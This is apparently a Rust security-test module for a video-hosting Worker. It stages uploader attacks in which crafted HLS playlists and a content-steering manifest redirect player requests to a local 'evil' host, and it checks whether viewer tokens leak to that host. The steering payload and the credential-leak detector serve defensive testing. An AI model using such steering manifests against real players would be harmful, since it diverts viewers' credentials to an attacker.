//! Attacks on the running Worker by an uploader. The viewer's link opens the folder above the
//! uploader's. No other host may receive a credential, and no pass may open an object outside the
//! uploader's folder.

mod manifests;
mod misnamed;
mod passes;
mod playlists;

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};

use lectern::credential::claims::Purpose;
use lectern::credential::pass;
use serde_json::{Value, json};
use testkit::attacks::{Attack, AttackSite, media};
use testkit::root;

use super::edge::{Edge, built, now};
use super::media as lecture;

const HLS: &str = "application/vnd.apple.mpegurl";
const DASH: &str = "application/dash+xml";
/// Objects that only their owner and the viewer may read.
const OTHERS: [&str; 6] = [
    "/uploads/u2/essay.mp4",
    "/uploads/u2/essay2.mp4",
    "/uploads/u2/master.m3u8",
    "/uploads/u2/a.m3u8",
    "/uploads/u2/a.jpg",
    "/uploads/u2/v/1/720p/seg00000.m4s",
];

/// A foreign host: it gives every request a plausible answer and records it.
struct Foreign {
    origin: String,
    seen: Arc<Mutex<Vec<String>>>,
}

impl Foreign {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.2:0").expect("a free port");
        let origin = format!("http://{}", listener.local_addr().expect("an address"));
        let seen = Arc::new(Mutex::new(Vec::new()));
        let log = seen.clone();
        // The thread ends with the process.
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(stream) = stream else { continue };
                let log = log.clone();
                std::thread::spawn(move || answer(stream, &log));
            }
        });
        Self { origin, seen }
    }

    fn seen(&self) -> Vec<String> {
        self.seen.lock().expect("a list").clone()
    }
}

/// Reads one request, head and available body, and answers it.
fn answer(mut stream: TcpStream, log: &Mutex<Vec<String>>) {
    let mut request = Vec::new();
    let mut piece = [0; 4096];
    while !request.windows(4).any(|end| end == b"\r\n\r\n") && request.len() < 1 << 20 {
        match stream.read(&mut piece) {
            Ok(length @ 1..) => request.extend_from_slice(&piece[..length]),
            _ => break,
        }
    }
    let text = String::from_utf8_lossy(&request).into_owned();
    let target = text.split(' ').nth(1).unwrap_or_default();
    let path = target.split('?').next().unwrap_or_default();
    let (kind, body) = if path.ends_with(".m3u8") || path == "/" {
        (HLS, media(""))
    } else if path.ends_with(".json") {
        ("application/json", steering())
    } else {
        ("video/mp4", "x".repeat(16))
    };
    let length = body.len();
    let _ = write!(
        stream,
        "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {length}\r\n\
         Access-Control-Allow-Origin: *\r\nAccess-Control-Allow-Headers: *\r\n\
         Connection: close\r\n\r\n{body}"
    );
    log.lock().expect("a list").push(text);
}

/// A steering manifest (RFC 8216bis §7.1) that clones the pathway `.` to a foreign host. It names
/// no port, because hls.js keeps that of the replaced URI.
fn steering() -> String {
    json!({
        "VERSION": 1,
        "TTL": 300,
        "PATHWAY-PRIORITY": ["evil", "."],
        "PATHWAY-CLONES": [
            { "BASE-ID": ".", "ID": "evil", "URI-REPLACEMENT": { "HOST": "127.0.0.2" } },
        ],
    })
    .to_string()
}

/// An uploader's files, of which the viewer opens the first.
struct Case {
    name: String,
    /// Name, content type, bytes.
    files: Vec<(String, String, Vec<u8>)>,
}

impl Case {
    fn of(attack: Attack) -> Self {
        Self {
            name: attack.name,
            files: vec![
                ("p.m3u8".to_owned(), HLS.to_owned(), attack.multivariant),
                ("s.m3u8".to_owned(), HLS.to_owned(), attack.media),
            ],
        }
    }

    fn new(name: &str, multivariant: &str, media: &str) -> Self {
        Self::of(Attack {
            name: name.to_owned(),
            multivariant: multivariant.into(),
            media: media.into(),
        })
    }

    fn with(mut self, name: &str, kind: &str, bytes: impl Into<Vec<u8>>) -> Self {
        self.files
            .push((name.to_owned(), kind.to_owned(), bytes.into()));
        self
    }

    /// Stores a file with another content type.
    fn typed(mut self, name: &str, kind: &str) -> Self {
        for file in &mut self.files {
            if file.0 == name {
                kind.clone_into(&mut file.1);
            }
        }
        self
    }
}

/// Requests to the edge and to other hosts, by player.
type RequestCounts = BTreeMap<String, (usize, usize)>;

/// An edge with another user's objects, a foreign host, and the attacks in `/uploads/u1/`.
struct Stage {
    edge: Edge,
    foreign: Foreign,
    /// Name and path of each opened file.
    opened: Vec<(String, String)>,
    /// Everything that the uploader stored, as text.
    stored: String,
}

impl Stage {
    fn new(cases: impl Fn(&AttackSite<'_>) -> Vec<Case>) -> Self {
        let edge = Edge::start();
        let foreign = Foreign::start();
        let admin = edge.token("/uploads/u2/", Purpose::Admin);
        for path in OTHERS {
            let body = if path.ends_with(".m3u8") {
                media("")
            } else {
                "secret".to_owned()
            };
            let url = format!("{path}?token={admin}");
            let put = edge.send("PUT", &url, &[], body.as_bytes());
            assert!(matches!(put.status, 200 | 201), "{path}: {}", put.verdict());
        }
        let site = AttackSite {
            origin: &edge.origin,
            evil: &foreign.origin,
            own: "/uploads/u1",
            others: "/uploads/u2",
        };
        let upload = edge.token("/uploads/u1/", Purpose::Upload);
        let mut opened = Vec::new();
        let mut stored = String::new();
        let segment = fs::read(segment()).expect("a segment");
        // Selects attacks by name: `LECTERN_HOSTILE=steering`.
        let wanted = std::env::var("LECTERN_HOSTILE").unwrap_or_default();
        let cases = cases(&site)
            .into_iter()
            .filter(|case| case.name.contains(&wanted));
        for (number, case) in cases.enumerate() {
            let folder = format!("/uploads/u1/{number}");
            let entry = case.files[0].0.clone();
            let own = ("x.m4s".to_owned(), "video/mp4".to_owned(), segment.clone());
            for (name, kind, bytes) in case.files.into_iter().chain([own]) {
                let url = format!("{folder}/{name}?token={upload}");
                let put = edge.send("PUT", &url, &[("content-type", &kind)], &bytes);
                assert!(
                    matches!(put.status, 200 | 201),
                    "{} {name}: {}",
                    case.name,
                    put.verdict()
                );
                if name != "x.m4s" {
                    stored += &String::from_utf8_lossy(&bytes);
                }
            }
            opened.push((case.name, format!("{folder}/{entry}")));
        }
        Self {
            edge,
            foreign,
            opened,
            stored,
        }
    }

    /// A viewer's link for the folder above, with a claim that differs per case.
    fn link(&self, name: &str, path: &str, claims: &Value) -> String {
        let mut all = json!({ "path": "/uploads/", "sub": name });
        for (name, value) in claims.as_object().into_iter().flatten() {
            all[name] = value.clone();
        }
        format!(
            "{}{path}?token={}",
            self.edge.origin,
            self.edge.token_of(all)
        )
    }

    /// Credentials in a text: links and passes that the uploader did not write himself.
    fn credentials<'a>(&self, text: &'a str) -> BTreeSet<&'a str> {
        let of_credential =
            |character: char| character.is_ascii_alphanumeric() || "-_.".contains(character);
        text.split(|character| !of_credential(character))
            .filter(|run| !self.stored.contains(run))
            .filter(|run| {
                run.starts_with("eyJ") || pass::decode(run).is_ok_and(|pass| pass.expires > now())
            })
            .collect()
    }

    /// Returns whether a request to a foreign host contains a credential, in any encoding.
    fn gives_away(&self, sent: &str) -> bool {
        let decoded: Vec<u8> = percent_encoding::percent_decode_str(sent).collect();
        let text = String::from_utf8_lossy(&decoded).into_owned();
        let pairs = |order: fn(u16) -> [u8; 2]| {
            let bytes: Vec<u8> = text.encode_utf16().flat_map(order).collect();
            String::from_utf8_lossy(&bytes).into_owned()
        };
        [
            sent.to_owned(),
            text.clone(),
            pairs(u16::to_le_bytes),
            pairs(u16::to_be_bytes),
        ]
        .iter()
        .any(|text| !self.credentials(text).is_empty())
    }

    /// Opens links in players of a foreign page, each by a name. Returns the requests to other hosts by that name, and how
    /// many requests each player sent to the edge and to others.
    fn play(&self, plays: &[(String, Value)]) -> (Vec<(String, String)>, RequestCounts) {
        let mut node = Command::new(built("node_modules/node/bin/node"))
            .arg(root().join("tests/browser/hostile.mjs"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .expect("node starts");
        let question: Vec<&Value> = plays.iter().map(|(_, play)| play).collect();
        let question = serde_json::to_vec(&question).expect("JSON");
        node.stdin
            .take()
            .expect("a pipe")
            .write_all(&question)
            .expect("written");
        let output = node.wait_with_output().expect("an answer");
        assert!(output.status.success(), "{}", self.edge.log());
        let played: Vec<Value> = serde_json::from_slice(&output.stdout).expect("JSON");
        assert_eq!(played.len(), plays.len());

        let mut sent = Vec::new();
        let mut asked = RequestCounts::new();
        for ((name, _), play) in plays.iter().zip(&played) {
            let requests = play["requests"].as_array().expect("a list");
            let url = |request: &Value| request["url"].as_str().unwrap_or_default().to_owned();
            let (own, foreign): (Vec<_>, Vec<_>) = requests
                .iter()
                .partition(|request| url(request).starts_with(&format!("{}/", self.edge.origin)));
            // Each player opened its playlist, or the attack was not tried.
            let opened = own
                .iter()
                .any(|request| url(request).contains("/uploads/u1/"));
            assert!(
                opened,
                "{name} opened nothing: {play:#}\n{}",
                self.edge.log()
            );
            let player = play["player"].as_str().unwrap_or_default();
            let counts = asked.entry(player.to_owned()).or_default();
            counts.0 += own.len();
            counts.1 += foreign.len();
            sent.extend(
                foreign
                    .iter()
                    .map(|request| (name.clone(), request.to_string())),
            );
        }
        (sent, asked)
    }

    /// Opens every file in FFmpeg and VLC, and returns what the foreign host was asked.
    fn play_without_scripts(&self) -> Vec<String> {
        let home = self.edge.folder().join("home");
        fs::create_dir(&home).expect("a folder");
        for (name, path) in &self.opened {
            let link = self.link(&format!("ffmpeg: {name}"), path, &json!({}));
            // The players end with an error: the foreign host has no media.
            let _ = Command::new("timeout")
                .args(["20", "ffmpeg", "-v", "quiet", "-nostdin", "-i", &link])
                .args(["-map", "0", "-f", "null", "-"])
                .output()
                .expect("ffmpeg starts");
            let link = self.link(&format!("vlc: {name}"), path, &json!({}));
            let _ = Command::new("timeout")
                .args(["20", "runuser", "-u", "nobody", "--", "cvlc", "--quiet"])
                .args(["--vout", "dummy", "--aout", "dummy", "--run-time", "1"])
                .args([&link, "vlc://quit"])
                .env("HOME", &home)
                .output();
        }
        let foreign = self.foreign.seen();
        let _ = writeln!(
            std::io::stderr(),
            "{} files in ffmpeg and VLC; the foreign host saw {}",
            self.opened.len(),
            foreign.len()
        );
        foreign
    }

    /// Checks all requests to another host.
    fn judge(&self, sent: impl IntoIterator<Item = (String, String)>) -> Vec<String> {
        sent.into_iter()
            .filter(|(_, sent)| self.gives_away(sent))
            .map(|(who, sent)| match serde_json::from_str::<Value>(&sent) {
                Ok(request) => format!("{who}: {}", request["url"]),
                Err(_) => format!("{who}: {}", sent.lines().next().unwrap_or_default()),
            })
            .collect()
    }
}

/// A segment that every player accepts.
fn segment() -> std::path::PathBuf {
    let package = lecture::package();
    let revision = fs::read_dir(package.join("v"))
        .expect("a revision")
        .next()
        .expect("one")
        .expect("an entry")
        .path();
    revision.join("480p/seg00000.m4s")
}
